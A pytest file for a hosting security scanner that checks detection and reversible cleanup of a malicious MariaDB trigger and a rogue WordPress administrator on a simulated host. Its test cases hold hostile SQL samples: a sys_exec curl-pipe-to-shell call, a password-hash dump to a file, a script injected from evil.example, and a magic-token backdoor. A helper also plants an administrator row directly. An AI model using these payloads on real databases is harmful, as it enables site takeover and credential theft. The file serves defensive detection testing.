"""Database checks on the real MariaDB: the simulated host's malicious trigger and rogue admin,
benign look-alikes, an unreachable server (incomplete, never clean), and the close guard."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pymysql
import pytest
from hypothesis import given
from hypothesis import strategies as st

from csm.clock import SystemClock
from csm.config.scanrules import default_database_rules
from csm.drill.build import DrillHost, build
from csm.drill.incidents import WEBSHELL
from csm.scan.database import judge
from tests.conftest import MARIADB, backed_up, dropin

RULES = default_database_rules()


@pytest.fixture
def host(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> DrillHost:
    drill = build(tmp_path / "host", 1, SystemClock(), with_databases=True)
    monkeypatch.setenv("CSM_CONFIG", str(drill.config_path))
    return drill


def test_the_malicious_trigger_and_rogue_admin_are_found(cli: Any, host: DrillHost) -> None:
    victim = host.accounts[1].user
    result = cli("scan", victim, "--json")
    assert result.code == 0, result.err
    scan = result.json()
    assert scan["complete"] and not scan["clean"]
    checks = {f["check"]: f for f in scan["findings"]}
    trigger = checks["db_malicious_trigger"]
    assert trigger["severity"] == "CRITICAL" and "wp_user_sync" in trigger["message"]
    assert "display_name LIKE" in trigger["details"]["body"]
    assert scan["recorded"]["incidents"]
    listed = cli("incidents", "list", "--account", victim, "--json").json()["items"]
    assert any(i["id"] in scan["recorded"]["incidents"] for i in listed)
    objects = cli("db", "objects", victim, "--json").json()["items"]
    assert [(o["name"], o["verdict"]) for o in objects] == [("wp_user_sync", "malicious")]


def test_a_clean_account_scans_clean_and_satisfies_the_guard(cli: Any, host: DrillHost) -> None:
    account = host.accounts[2].user
    incident = next(
        i for i in cli("incidents", "list", "--status", "active", "--json").json()["items"]
        if i["account"] == account
    )  # fmt: skip
    cli("incidents", "review", incident["id"], "--note", "checked")
    cli("creds", "defer", account, "--reason", "rotated by the customer")
    scan = cli("scan", account, "--json").json()
    assert scan["clean"] and scan["complete"] and scan["schemas"]
    backed_up(cli, host)
    done = cli("incidents", "status", incident["id"], "resolved", "--json")
    assert done.code == 0, done.out


def test_an_unreachable_server_is_incomplete_never_clean(cli: Any, host: DrillHost) -> None:
    dropin(host, "50-db.yaml", "mysql:\n  port: 1\n  connect_timeout: 1\n")
    result = cli("scan", host.accounts[0].user, "--json")
    assert result.code == 1
    scan = result.json()
    assert not scan["complete"] and not scan["clean"] and scan["errors"]


@pytest.mark.parametrize(
    "body",
    [
        "SET NEW.post_modified = NOW()",
        "BEGIN UPDATE wp_options SET option_value = NEW.ID WHERE option_name = 'last_order'; END",
        "INSERT INTO audit_log VALUES (NEW.ID, 'base64 image stored')",
    ],
)
def test_benign_objects_are_unexpected_not_malicious(body: str) -> None:
    assert judge(body, RULES) == ()


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        ("SELECT sys_exec('curl x | sh')", "sys_exec"),
        ("SELECT user_pass FROM wp_users INTO OUTFILE '/tmp/h'", "password hashes"),
        ("SET NEW.post_content = CONCAT('<script src=\"https://evil.example/x.js\">', '')",
         "evil.example"),
        ("IF NEW.display_name LIKE '%aB3dE5fG7h%' THEN SET @x = 1; END IF", "magic token"),
    ],
)  # fmt: skip
def test_malicious_bodies_say_why(body: str, reason: str) -> None:
    assert any(reason in why for why in judge(body, RULES))


@given(st.text(max_size=300))
def test_any_body_is_judged_without_error(body: str) -> None:
    assert isinstance(judge(body, RULES), tuple)


def triggers(schema: str) -> list[tuple[str, str]]:
    conn = pymysql.connect(**MARIADB)
    with conn.cursor() as cursor:
        cursor.execute(
            "SELECT TRIGGER_NAME, ACTION_STATEMENT FROM information_schema.TRIGGERS"
            " WHERE TRIGGER_SCHEMA = %s",
            (schema,),
        )
        rows = [(str(a), str(b)) for a, b in cursor.fetchall()]
    conn.close()
    return rows


def test_drop_quarantine_then_a_clean_scan_the_guard_sees(cli: Any, host: DrillHost) -> None:
    victim = host.accounts[1]
    schema = next(s.db_name for s in victim.sites if s.wordpress)
    first = cli("scan", victim.user, "--json").json()
    assert not first["clean"]
    original = triggers(schema)
    preview = cli("db", "drop-object", victim.user, schema, "trigger", "wp_user_sync",
                  "--preview", "--json").json()  # fmt: skip
    assert "CREATE" in preview["definition"] and triggers(schema) == original
    dropped = cli("db", "drop-object", victim.user, schema, "trigger", "wp_user_sync", "--json")
    assert dropped.code == 0, dropped.out
    assert triggers(schema) == []
    cli("quarantine", f"/home/{victim.user}/{WEBSHELL}", "--reason", "webshell")
    second = cli("scan", victim.user, "--json").json()
    assert second["clean"] and second["complete"]
    restored = cli("db", "restore-object", dropped.json()["id"], "--json")
    assert restored.code == 0, restored.out
    assert triggers(schema) == original
    assert cli("db", "restore-object", dropped.json()["id"]).code == 3


def test_a_clean_scan_after_cleanup_closes_the_incident(cli: Any, host: DrillHost) -> None:
    victim = host.accounts[1]
    site = next(s for s in victim.sites if s.wordpress)
    cli("db", "drop-object", victim.user, site.db_name, "trigger", "wp_user_sync")
    cli("quarantine", f"/home/{victim.user}/{WEBSHELL}")
    incident = next(
        i for i in cli("incidents", "list", "--status", "active", "--json").json()["items"]
        if i["account"] == victim.user
    )  # fmt: skip
    cli("incidents", "review", incident["id"], "--note", "trigger dropped, shell quarantined")
    cli("creds", "defer", victim.user, "--reason", "rotated by the customer")
    scan = cli("scan", victim.user, "--json").json()
    assert scan["clean"] and scan["complete"], scan["findings"]
    backed_up(cli, host)
    assert cli("incidents", "status", incident["id"], "resolved").code == 0


def test_a_missing_object_is_named_not_dumped_raw(cli: Any, host: DrillHost) -> None:
    victim = host.accounts[1]
    schema = next(s.db_name for s in victim.sites if s.wordpress)
    missing = cli("db", "drop-object", victim.user, schema, "trigger", "no_such_trigger")
    assert missing.code == 1, missing.err
    assert "no trigger" in missing.err and "no_such_trigger" in missing.err
    assert "1360" not in missing.err and "(" not in missing.err.splitlines()[0]
    assert cli("db", "drop-object", victim.user, "someone_else_db", "trigger", "x").code == 1


def plant_rogue_admin(schema: str, login: str) -> None:
    """What the runbook's malicious trigger leaves behind: an administrator created today."""
    conn = pymysql.connect(**MARIADB, database=schema, autocommit=True)
    try:
        with conn.cursor() as cursor:
            cursor.execute(
                "INSERT INTO wp_users (user_login, user_pass, user_nicename, user_email,"
                " user_registered, display_name) VALUES (%s, 'x', %s, %s, NOW(), %s)",
                (login, login, f"{login}@example.net", login),
            )
            user = cursor.lastrowid
            caps = 'a:1:{s:13:"administrator";b:1;}'
            cursor.execute(
                "INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES"
                " (%s, 'wp_capabilities', %s), (%s, 'wp_user_level', '10')",
                (user, caps, user),
            )
    finally:
        conn.close()


def test_a_rogue_administrator_is_flagged_in_the_plan_and_removed_recoverably(
    cli: Any, host: DrillHost
) -> None:
    victim = host.accounts[1].user
    site = next(s for s in host.accounts[1].sites if s.wordpress)
    plant_rogue_admin(site.db_name, "wpsupport")
    scan = cli("scan", victim, "--json").json()
    rogue = [f for f in scan["findings"] if f["check"] in ("db_rogue_admin", "db_magic_token_user")]
    assert rogue, scan["findings"]
    schema, login = rogue[0]["details"]["schema"], rogue[0]["details"]["login"]
    plan = cli("creds", "plan", victim, "--json").json()
    flagged = [i for i in plan["items"] if i["flagged"] and i["id"].endswith(f":{login}")]
    assert flagged and flagged[0]["kind"] == "wordpress"
    assert any(f"csm db remove-user {victim} {schema} {login}" in n for n in plan["notes"])

    def rows() -> tuple[Any, ...]:
        conn = pymysql.connect(**MARIADB, database=schema)
        try:
            with conn.cursor() as cursor:
                cursor.execute("SELECT ID FROM wp_users WHERE user_login = %s", (login,))
                user = cursor.fetchall()
                cursor.execute(
                    "SELECT count(*) FROM wp_usermeta m JOIN wp_users u ON u.ID = m.user_id"
                    " WHERE u.user_login = %s", (login,),
                )  # fmt: skip
                return user, cursor.fetchone()
        finally:
            conn.close()

    before = rows()
    assert before[0] and before[1][0] > 0
    preview = cli("db", "remove-user", victim, schema, login, "--preview", "--json")
    assert preview.code == 0, preview.err and rows() == before
    backed_up(cli, host)
    removed = cli("db", "remove-user", victim, schema, login, "--json")
    assert removed.code == 0, removed.err
    assert rows()[0] == ()
    after = cli("scan", victim, "--json").json()
    assert not [f for f in after["findings"] if f["details"].get("login") == login]
    restored = cli("db", "restore-object", removed.json()["id"], "--json")
    assert restored.code == 0, restored.err
    assert rows() == before  # the same ID, every meta row
    assert cli("db", "remove-user", victim, schema, "no-such-user").code == 1
